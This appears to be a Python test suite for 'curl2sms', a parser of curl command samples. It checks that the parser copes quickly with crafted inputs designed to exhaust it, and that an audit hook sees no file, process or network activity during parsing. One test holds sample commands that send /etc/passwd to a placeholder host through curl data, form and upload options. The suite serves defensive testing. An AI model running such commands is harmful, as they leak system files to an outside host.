"""Reading always ends, soon, and does nothing but read."""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from curl2sms import reading
from curl2sms.errors import SampleError, Source
from tests.examples import examples

CORPUS = sorted((Path(__file__).parent.parent / "cases" / "corpus").glob("*/*.sh"))
SIZE = 1 << 18
CALL = "curl https://x.example/send "


def refused_or_read(source: Source) -> SampleError | reading.Reading:
    """What reading gives, whichever way it ends."""
    try:
        return reading.read(source)
    except SampleError as refused:
        return refused


def filled(unit: str, before: str = "", after: str = "") -> str:
    """A text of 256 KiB that repeats a unit."""
    return before + unit * ((SIZE - len((before + after).encode())) // len(unit.encode())) + after


HOSTILE = {
    "text": filled("a", f"{CALL}-d '", "'"),
    "json": filled('{"a":1},', f"{CALL}-d '[", "{}]'"),
    "brackets": f"{CALL}-d '" + "[" * 60_000 + "'",
    "parameters": f"{CALL}-d '" + "&a=1" * 40_000 + "'",
    "options": CALL + " -d a=1" * 40_000,
    "headers": CALL + " -H 'X: y'" * 20_000,
    "forms": filled(" -F a=b", CALL),
    "form parameters": filled(";type=a", f"{CALL}-F 'a=b", "'"),
    "backslashes": CALL + "\\" * 50_000,
    "backslashes in quotes": CALL + '-d "' + "\\" * 50_000 + '"',
    "escaped quotes": filled('\\"', f'{CALL}-d "', '"'),
    "words": filled(" a", CALL),
    "continuations": filled("\\\n", CALL),
    "line ends": filled("\n", CALL),
    "dollars": filled("$", f'{CALL}-d "', '"'),
    "variables": filled("$A ", f'A=1\n{CALL}-d "', '"'),
    "variables that split": filled(" $A", f"A='1 2'\n{CALL}"),
    "variables that double": "A=aaaa\n" + 'A="$A$A"\n' * 60 + f'{CALL}-d "$A"',
    "assignments of each other": " ".join(f"A{n}=$A{n - 1}" for n in range(15_000)) + f" {CALL}-d $A1",
    "declarations of each other": "export " + " ".join(f"A{n}=$A{n - 1}" for n in range(15_000)) + f"\n{CALL}-d $A1",
    "many variables": "".join(f"A{n}=1\n" for n in range(20_000)) + "(\n)\n" * 20_000 + CALL,
    "variables of subshells": "".join(f"A{n}=1\n(\n" for n in range(20_000)) + ")\n" * 20_000 + CALL,
    "arrays": filled(' "${A[@]}"', f"A=(1 2 3)\n{CALL}"),
    "substitutions": filled("$(echo a)", f'{CALL}-d "', '"'),
    "open substitutions": filled("$(", f'{CALL}-d "'),
    "backticks": filled("`", f'{CALL}-d "', '"'),
    "escaped backticks": filled("\\`", f"{CALL}-d `", "`"),
    "a lone backtick": filled("a b=c ", f"{CALL}`"),
    "an open $'": filled("a \\n", f"{CALL}$'"),
    "an open quote in a form": filled("a b", f"{CALL}-F 'a=\"", "'"),
    "open braces": filled("${", f'{CALL}-d "'),
    "alternatives": filled("${A:-", f'{CALL}-d "'),
    "brackets of shells": filled("(", CALL),
    "typographic quotes": filled(" “a", CALL),
    "typographic apostrophes": filled(" ‘a", CALL),
    "ampersands": filled("&a=b", "curl https://x.example/a?b=c"),
    "less than": filled("<a", CALL),
    "greater than": filled(">", CALL),
    "here-documents": filled("<<E ", CALL),
    "a here-document": filled("$A\n", f"{CALL}-d @- <<E\n", "E\n"),
    "prose": filled("it's a nice day\n", "", CALL),
    "commands": filled("curl https://x.example/a?b=c\n"),
    "commands in a line": filled("x curl a"),
    "unclosed statements": filled("echo 'a\n", "", CALL),
    "fences": filled("```\n", "", CALL),
    "addresses": filled("https://x.example "),
    "assignments": filled("A=$A\n", "", CALL),
    "functions": filled("f() {\n", "", CALL),
    "carets": filled('^"a', f"{CALL}^\n -d "),
    "percents": filled("%A%", f'{CALL}^\n -d "', '"'),
    "backticks of PowerShell": filled('`"a', f'{CALL}`\n -d "', '"'),
    "Windows line ends": filled("\r\n", CALL),
    "hyphens": filled("-", CALL),
    "dots in a path": filled("./", "curl https://x.example/"),
    "braces in a path": filled("{a", "curl https://x.example/"),
    "brackets in a path": filled("[1", "curl https://x.example/"),
    "a path that is not ASCII": filled("é", "curl https://x.example/"),
    "pipes": filled("| a ", CALL),
    "typographic quotes in words": filled("a”", CALL, " "),
    "typographic quotes in data": filled("-d “{“a“:1}” ", CALL),
    "prompts": filled("$ ls\n", "", CALL),
    "prompts in a line": filled("> -aaaaaaaaaaaaaa ", CALL),
    "appended values": filled("A+=" + "x" * 32 + "\n", "", CALL),
    "appended arrays": filled("A+=(x)\n", "", CALL),
    "other commands": filled("a;", CALL + ";"),
    "operators in a value": filled("|a;b", f"{CALL}-d a="),
    "brackets in a value": filled("(a)", f"{CALL}-d a="),
    "open brackets in a value": filled("(", f"{CALL}-d a="),
    "subshells": filled("(A=1\n", "", CALL),
    "open subshells": filled("(A=1;", "", CALL),
    "words behind a value": filled(" a", f"{CALL}-d a="),
    "JSON without quotes": filled('{"a": [', f"{CALL}-d "),
    "many JSONs without quotes": filled(' -d {"a":1}', CALL),
    "apostrophes": filled("it's ", f"{CALL}-d '", "a"),
    "comments": filled(" #5 -d a\n -d b", CALL),
    "switches in a word": filled("s", f"{CALL}-"),
    "patterns": "A=" + "a" * 2000 + "\n" + filled("${A%%*b*c}", f'{CALL}-d "', '"'),
    "replacements": "A=" + "a" * 2000 + "\n" + filled("${A//[^b]/a}", f'{CALL}-d "', '"'),
    "arithmetic": filled("$((1+(2*3)))", f'{CALL}-d "', '"'),
    "brackets in arithmetic": filled("(", f"{CALL}-d $((", "1" + ")" * 20_000),
    "members": filled("A[1]=a\n", "", f'{CALL}-d "${{A[@]}}"'),
    "members of a growing array": "".join(f"A[{i}]=a\n" for i in range(20_000)) + CALL,
    "texts that are run": filled("sh -c 'curl x'\n", "", CALL),
    "a text that is run in a text": filled("eval ", "", CALL),
    "strings": filled('os.system("curl x")\n', "", CALL),
    "strings that never close": filled('x("curl -\n', "", CALL),
    "joined strings": filled(" + 'a'", "x('curl -d '"),
    "a list of strings": filled('"-d", "a", ', '["curl", ', "]"),
    "a config": filled("-d a\n", "curl x -K - <<E\n", "E\n"),
    "character references": filled("&quot;a&quot; ", f"{CALL}-d "),
    "here-strings of PowerShell": filled('$a = @"\n', "", f"{CALL}`\n -d a"),
    "sets of cmd": filled("set A=b\n", "", f"{CALL}^\n -d %A%"),
    "branches": filled("if a; then A=1; else A=2; fi\n", "", f"{CALL}-d $A"),
    "loops": filled("for n in 1; do\n", "", CALL),
}


@pytest.mark.parametrize("sample", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_sample_is_read_or_refused_soon(sample: str) -> None:
    started = time.process_time()
    refused_or_read(reading.decode_sample(sample.encode(), "hostile"))
    assert time.process_time() - started < 2


PIECES = st.sampled_from(
    [
        "curl",
        "curl.exe",
        "https://x.example/a?b=c",
        "-d",
        "-H",
        "-X",
        "-F",
        "--data",
        "--json",
        "-G",
        "-u",
        "--next",
        "--",
        "-",
        "'",
        '"',
        "`",
        "$",
        "${",
        "$(",
        "$((",
        ")",
        "}",
        "(",
        "{",
        "\\",
        "\\\n",
        "\n",
        "\r\n",
        " ",
        "\t",
        ";",
        "&",
        "&&",
        "|",
        "<",
        "<<",
        "<<<",
        "<<E",
        "E",
        ">",
        ">>",
        "#",
        "=",
        "A=",
        "$A",
        "${A:-",
        "“",
        "”",
        "‘",
        "’",
        "–",
        "—",
        "\xa0",
        "\u200b",
        "\ufeff",
        "^",
        "^\n",
        "%A%",
        "@-",
        "@f",
        ":",
        "a",
        "é",
        "export",
        "if",
        "then",
        "fi",
        "for",
        "do",
        "done",
        "echo",
        "cat",
        "base64",
        "```",
        "~",
        "*",
        "?",
        "[",
        "]",
        "!",
        "$'",
        "\\x41",
        "&amp;",
        "http://",
        "{{x}}",
        "<a>",
        "sudo",
        "$$",
        "$1",
        "&quot;",
        "eval ",
        "bash -c ",
        "${A%",
        "${A//",
        "${A:+",
        "${!A}",
        "-K - ",
        "A[1]=",
        "A=(",
        "' + '",
        '"curl ',
        '["curl", ',
        "set A=b\n",
        '$a = @"\n',
        "PS> ",
        "--% ",
        "|b",
        "#5 -d a",
        "it's ",
        '{"a": ',
        "<https://x|y>",
    ]
)
TEXTS = st.lists(PIECES | st.text(max_size=3), max_size=30).map("".join)


@examples(300)
@given(TEXTS)
@example("curl -H ")
@example("curl `")
@example("PS> curl https://x.example -d `")
@example("for\xa0")
@example("curl $(")
@example("curl https://x.example/ <<E\n")
def test_anything_is_read_or_refused_with_a_place(text: str) -> None:
    source = Source("any", text)
    found = refused_or_read(source)
    if isinstance(found, SampleError):
        assert found.note.kind == "error"
        assert found.source is source
        spans = [found.note.span]
    else:
        spans = [note.span for note in found.notes]
        assert found.request.url.startswith(("http://", "https://"))
    for span in spans:
        assert span is None or 0 <= span.start <= span.end <= len(text)


@examples(100)
@given(st.binary(max_size=60))
def test_any_bytes_are_decoded_or_refused(data: bytes) -> None:
    with suppress(SampleError):
        assert len(reading.decode_sample(data, "any").text) <= len(data)


class _Watch:
    """Writes down what the interpreter does while it is on: an audit hook can't be taken away again (PEP 578)."""

    def __init__(self) -> None:
        self.on = False
        self.seen: list[str] = []
        sys.addaudithook(self._hook)

    def _hook(self, event: str, args: tuple[object, ...]) -> None:
        if not self.on:
            return
        watched = ("subprocess.", "os.", "socket.", "exec", "open", "shutil.", "urllib.", "ctypes.")
        if event.startswith(watched):
            self.seen.append(f"{event}{args!r}"[:200])

    @contextmanager
    def watching(self) -> Iterator[list[str]]:
        self.seen = []
        self.on = True
        try:
            yield self.seen
        finally:
            self.on = False


WATCH = _Watch()


@pytest.mark.parametrize("path", CORPUS, ids=lambda path: str(path.stem))
def test_reading_a_sample_does_nothing_but_read(path: Path) -> None:
    data = path.read_bytes()
    reading.read(Source("warm", "curl https://x.example -d a=1"))  # modules and tables are loaded now
    with WATCH.watching() as seen, suppress(SampleError):
        reading.read(reading.decode_sample(data, path.name))
    assert seen == []


def test_the_watch_sees_what_it_should() -> None:
    with WATCH.watching() as seen:
        CORPUS[0].read_bytes()
    assert seen


@pytest.mark.parametrize(
    "sample",
    [
        "curl https://x.example -d @/etc/passwd",
        "curl -K /etc/passwd https://x.example",
        'curl https://x.example -d "$(cat /etc/passwd)"',
        "curl https://x.example -d `id`",
        "curl https://x.example -F a=@/etc/passwd",
        "curl https://x.example -T /etc/passwd",
        "curl https://x.example -b /etc/passwd -E /etc/passwd --cacert /etc/passwd -n",
        "cat < /etc/passwd | curl https://x.example -d @-",
        "source /etc/profile; curl https://x.example > /tmp/never",
    ],
)
def test_a_sample_that_wants_more_gets_nothing(sample: str) -> None:
    reading.read(Source("warm", "curl https://x.example -d $(date)"))
    with WATCH.watching() as seen, suppress(SampleError):
        reading.read(Source("wants", sample))
    assert seen == []
